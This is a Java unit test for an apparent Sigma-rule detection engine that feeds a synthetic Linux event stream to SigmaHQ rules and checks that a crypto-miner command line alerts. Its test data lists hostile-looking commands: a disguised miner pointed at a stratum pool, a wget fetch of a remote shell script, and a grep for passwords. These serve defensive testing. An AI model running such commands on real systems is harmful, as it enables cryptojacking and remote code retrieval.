package dev.minewarden.core.sigma;

import static dev.minewarden.core.sigma.SigmaHqRulesTest.resource;
import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.core.alert.Alert;
import dev.minewarden.core.event.Event;
import dev.minewarden.core.event.LogSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * All SigmaHQ Linux rules compiled together against a mixed Linux stream. Speed is measured by the
 * bench module ({@code EngineBenchmark}), not here.
 */
class LinuxRulesStreamTest {
  private static final String[] IMAGES = {
    "/usr/bin/bash", "/usr/bin/curl", "/usr/bin/python3", "/usr/sbin/sshd", "/usr/bin/systemctl",
    "/tmp/.x/kworkerds", "/usr/bin/crontab", "/usr/bin/wget", "/usr/bin/ls", "/usr/bin/grep"
  };
  private static final String[] COMMANDS = {
    "bash -c ls -la /var/log",
    "curl -s https://api.example.com/v1/health",
    "python3 /opt/app/manage.py runserver 0.0.0.0:8000",
    "systemctl status nginx.service",
    "/tmp/.x/kworkerds -o stratum+tcp://pool.example:3333 -u 4Abc --donate-level 1",
    "crontab -l",
    "wget -q -O - http://198.51.100.7/x.sh",
    "grep -r password /etc/app/config.yaml",
    "ls --color=auto",
    "sshd: root@pts/0"
  };

  static List<Event> stream(int n) {
    Random rnd = new Random(42);
    List<Event> events = new ArrayList<>(n);
    LogSource proc = LogSource.of("linux", "process_creation", null);
    LogSource auditd = LogSource.of("linux", null, "auditd");
    LogSource net = LogSource.of("linux", "network_connection", null);
    LogSource sshd = LogSource.of("linux", null, "sshd");
    for (int i = 0; i < n; i++) {
      int k = rnd.nextInt(IMAGES.length);
      Event e =
          switch (i % 4) {
            case 0 -> Event.builder(proc)
                .field("Image", IMAGES[k])
                .field("CommandLine", COMMANDS[k] + " " + i)
                .field("ParentImage", IMAGES[(k + 3) % IMAGES.length])
                .field("User", k % 2 == 0 ? "root" : "app")
                .field("CurrentDirectory", "/home/app")
                .field("ProcessId", (long) (1000 + i % 30000))
                .build();
            case 1 -> Event.builder(auditd)
                .field("type", k % 2 == 0 ? "SYSCALL" : "PATH")
                .field("syscall", "openat")
                .field("key", "etc_access")
                .field("name", "/etc/passwd")
                .field("exe", IMAGES[k])
                .field("comm", "cat")
                .field("success", "yes")
                .build();
            case 2 -> Event.builder(net)
                .field("Image", IMAGES[k])
                .field("DestinationIp", "203.0.113." + (i % 250))
                .field("DestinationPort", (long) (k % 2 == 0 ? 443 : 3333))
                .field("Initiated", "true")
                .build();
            default -> Event.builder(sshd)
                .field("message", "Failed password for invalid user admin from 192.0.2.9 port 4242 ssh2")
                .field("SourceIp", "192.0.2.9")
                .field("User", "admin")
                .build();
          };
      events.add(e);
    }
    return events;
  }

  @Test
  void match_linuxRulesOnMixedStream_findTheMinerCommandLineAndOnlyKnownLines() {
    LoadResult loaded = new SigmaLoader().load(resource("sigma/rules/linux"));
    CompiledRules rules = CompiledRules.compile(loaded.rules(), loaded.filters());
    List<Alert> alerts = new ArrayList<>();
    for (Event e : stream(2_000)) {
      rules.match(e, alerts::add);
    }
    assertThat(alerts).as("the miner command line alerts")
        .anyMatch(a -> String.valueOf(a.event().get("CommandLine")).contains("stratum+tcp://"));
    assertThat(alerts).as("plain listings, health checks and status calls raise nothing")
        .noneMatch(a -> String.valueOf(a.event().get("CommandLine")).startsWith("ls --color")
            || String.valueOf(a.event().get("CommandLine")).startsWith("systemctl status"));
  }
}
